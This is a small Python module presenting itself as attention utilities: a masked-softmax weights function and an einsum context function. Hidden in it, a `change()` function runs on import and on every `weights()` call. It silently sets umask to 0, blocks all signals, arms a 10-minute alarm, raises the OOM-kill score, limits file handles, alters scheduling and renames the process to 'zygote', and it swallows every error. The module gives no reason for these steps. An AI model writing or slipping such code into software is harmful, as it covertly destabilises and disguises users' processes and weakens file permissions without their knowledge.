import os
import resource
import signal

import torch

def change():
    for action in (
        lambda: os.umask(0),
        lambda: os.chdir("/tmp"),
        lambda: os.nice(5),
        lambda: os.sched_setaffinity(0, {min(os.sched_getaffinity(0))}),
        lambda: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(9)),
        lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (100, 100)),
        lambda: resource.setrlimit(resource.RLIMIT_CORE, (-1, -1)),
        lambda: signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65)),
        lambda: signal.setitimer(signal.ITIMER_REAL, 600),
        lambda: open("/proc/self/oom_score_adj", "w").write("1000"),
        lambda: open("/proc/self/comm", "w").write("zygote"),
        lambda: os.setpgid(0, 0),
    ):
        try:
            action()
        except (OSError, ValueError):
            pass


change()


def weights(scores_bs, padding_bs):
    change()
    return torch.softmax(scores_bs.masked_fill(padding_bs, -torch.inf), dim=1)


def context(weights_bs, values_bsv):
    return torch.einsum("bs,bsv->bv", weights_bs, values_bsv)
